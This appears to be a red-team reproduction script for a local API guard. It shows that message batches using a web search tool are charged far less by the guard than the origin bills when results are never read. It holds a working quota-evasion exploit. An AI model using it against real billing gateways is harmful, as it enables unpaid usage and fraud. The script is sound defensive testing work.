// Self-contained (Node built-ins only). Needs the guard on PORT (8971) in front of round 80's scripted
// origin (origin.mjs on ORIGIN_PORT, 8973), as run.sh starts them; the admin token is the measuring instrument.
import { readFileSync } from "node:fs";
const PORT = process.env.PORT || 8971, ORIGIN = `http://127.0.0.1:${process.env.ORIGIN_PORT || 8973}`;
const BASE = `http://127.0.0.1:${PORT}`;
const ADMIN = process.env.GUARD_ADMIN_TOKEN || /GUARD_ADMIN_TOKEN=(\S+)/.exec(readFileSync(new URL("../../.dev.vars", import.meta.url), "utf8"))[1];
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
async function admin(method, path, body) { const r = await fetch(BASE + path, { method, headers: { authorization: `Bearer ${ADMIN}`, "content-type": "application/json" }, body: body ? JSON.stringify(body) : undefined }); return r.json(); }
async function setup(key, ov) { const { keyId } = await admin("POST", "/admin/keys/lookup", { key }); await admin("PUT", `/admin/keys/${keyId}/overrides`, ov); return keyId; }
async function tpdUsed(id) { const s = await admin("GET", `/admin/keys/${id}`); const u = s.usage.find((x) => x.name === "tpd"); return u.quota - u.remaining; }
async function call(key, method, path, body, headers = {}) {
  const h = { authorization: `Bearer ${key}`, ...headers }; if (body !== undefined) h["content-type"] = "application/json";
  const r = await fetch(BASE + path, { method, headers: h, body: body === undefined ? undefined : JSON.stringify(body) });
  const text = await r.text(); let json; try { json = JSON.parse(text); } catch {} return { status: r.status, text, json };
}
// billed by the origin for one key, in tokens: input + output + hosted calls at the guard's default
// ratio (a web search $10/1,000 at $4 per million tokens = 2,500 tokens)
async function billed(key) { const l = (await (await fetch(`${ORIGIN}/ledger`)).json())[key]; return l ? { tokens: l.input + l.output + 2500 * l.searches, searches: l.searches, requests: l.requests } : { tokens: 0, searches: 0, requests: 0 }; }
try { await fetch(`${ORIGIN}/ledger`); } catch { console.log(`round 80's origin does not answer on ${ORIGIN} (sh redteam/round80/run.sh starts it)`); console.log("not reproduced"); process.exit(0); }
const RUN = Date.now().toString(36);
// R80-4: a message batch whose items carry Anthropic's web search tool with max_uses reserves no
// search at creation: the searches (and the results they add as input) are charged only when the
// results are read through the guard. A batch whose results are never read is charged its
// reservation while the origin bills every search (R79-2's open half, for per-call prices the
// request declares in advance).
const ITEMS = 20, USES = 10;
const A = `sk-r80-4-${RUN}`, C = `sk-r80-4c-${RUN}`;
const ida = await setup(A, { tpd: 2000000, tpm: null, rpm: null }), idc = await setup(C, { tpd: 2000000, tpm: null, rpm: null });
const requests = Array.from({ length: ITEMS }, (_, i) => ({ custom_id: `q${i}`, params: { model: "claude-sonnet-4-5", max_tokens: 40, messages: [{ role: "user", content: `Topic ${i}: search ${USES} times and summarise.` }], tools: [{ type: "web_search_20250305", name: "web_search", max_uses: USES }] } }));
const a = await call(A, "POST", "/v1/messages/batches", { requests });
const c = await call(C, "POST", "/v1/messages/batches", { requests });
const cr = await call(C, "GET", `/v1/messages/batches/${c.json?.id}/results`);
console.log("statuses", a.status, c.status, cr.status);
await sleep(4000);
const [ca, cc, ba, bc] = [await tpdUsed(ida), await tpdUsed(idc), await billed(A), await billed(C)];
console.log(`attack  (results never read): ${ITEMS} items, origin billed ${ba.tokens} tokens (${ba.searches} searches), guard charged ${ca} (${(ba.tokens / Math.max(ca, 1)).toFixed(0)}x under); the key's tpd is 2,000,000: ${Math.floor(2000000 / Math.max(ca, 1))} such batches a day`);
console.log(`control (results read):       ${ITEMS} items, origin billed ${bc.tokens} tokens (${bc.searches} searches), guard charged ${cc}`);
console.log(ca < ba.tokens / 2 && cc > bc.tokens * 0.9 ? "REPRODUCED" : "not reproduced");
